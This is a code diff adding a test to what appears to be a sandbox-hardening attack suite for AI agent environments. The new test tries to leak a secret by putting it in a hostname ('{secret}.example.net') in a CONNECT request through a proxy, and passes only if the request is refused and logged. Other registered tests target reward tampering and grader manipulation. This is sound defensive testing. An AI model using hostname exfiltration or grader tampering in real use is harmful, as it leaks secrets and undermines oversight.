@@ -6,6 +6,7 @@ from collections.abc import Awaitable, Callable, Mapping
 
 import grpc
 from tests.attacks.arena import GONE, REACHED, Arena
+from tests.attacks.proxied import TALK
 
 from etude.v1 import environments_pb2
 
@@ -201,6 +202,17 @@ async def _graded(arena: Arena) -> str:
     return f"a reward of {graded.reward_file!r}" if graded.reward_file else ""
 
 
+async def carry_data_in_names(arena: Arena) -> str:
+    """Every name that is looked up would tell its owner's name server what is in it."""
+    name = f"{arena.secret}.example.net"
+    head = f"CONNECT {name}:443 HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n"
+    said = await arena.sh(f"printf '%b' '{head}' | {TALK}")
+    if " 403 " not in said:
+        return f"the proxy answers {said[:200]!r}"
+    refused = f"verdict=not_listed rule=- method=CONNECT host={name} port=443"
+    return "" if refused in arena.processes.log("node") else "nobody logged it"
+
+
 async def arguments_of_a_megabyte(arena: Arena) -> str:
     for name, argument in (("run_terminal", "command"), ("read_file", "path"), ("grep", "pattern")):
         said = await arena.tool(name, **{argument: "a" * (1 << 20)})
@@ -261,6 +273,7 @@ DEEDS: Mapping[str, Deed] = {
     "a process that waits for the grader": wait_for_the_grader,
     "a reward before the verifier's": write_the_reward_before_the_verifier,
     "links handed in as files": hand_in_a_link_as_a_file,
+    "data in the names of hosts": carry_data_in_names,
     "arguments of a megabyte": arguments_of_a_megabyte,
     "calls that are no calls": calls_that_are_no_calls,
 }
